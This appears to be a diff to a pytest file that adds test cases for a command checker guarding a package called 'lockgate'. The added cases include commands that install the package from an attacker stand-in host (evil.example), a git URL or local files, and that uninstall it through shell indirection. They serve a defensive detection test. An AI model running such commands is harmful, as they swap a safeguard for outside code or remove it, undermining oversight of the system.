@@ -49,6 +49,17 @@ def kinds(command: str) -> set[str]:
         "pipx runpip lockgate install evil",
         "uv tool install --force lockgate --from ./evil",
         "pip install --index-url https://evil.example/simple lockgate==9",
+        # A file, a folder or an address in the place of the package, and no package at all.
+        "pip install --force-reinstall ./evil-lockgate",
+        "python3 -m pip install --no-deps ../lockgate",
+        ".venv/bin/python -m pip install /tmp/lockgate-9-py3-none-any.whl",
+        "pip install lockgate-9.tar.gz",
+        "pip install git+https://evil.example/lockgate.git",
+        "pip install 'lockgate @ https://evil.example/x.whl'",
+        "uv pip install --reinstall ./lockgate/",
+        "P=lockgate; pip uninstall -y $P",
+        "P=lockgate; uv tool uninstall $P",
+        "echo lockgate | xargs pipx uninstall",
     ],
 )
 def test_no_spelling_hides_what_our_command_is_told(command: str) -> None:
@@ -59,6 +70,9 @@ def test_no_spelling_hides_what_our_command_is_told(command: str) -> None:
 @pytest.mark.parametrize(
     "command",
     [
+        "pip install -U lockgate",
+        "pip install lockgate-plugin",
+        "pip install -r ~/lockgate/requirements.txt",
         "lockgate",
         "lockgate --help",
         "lockgate init --help",
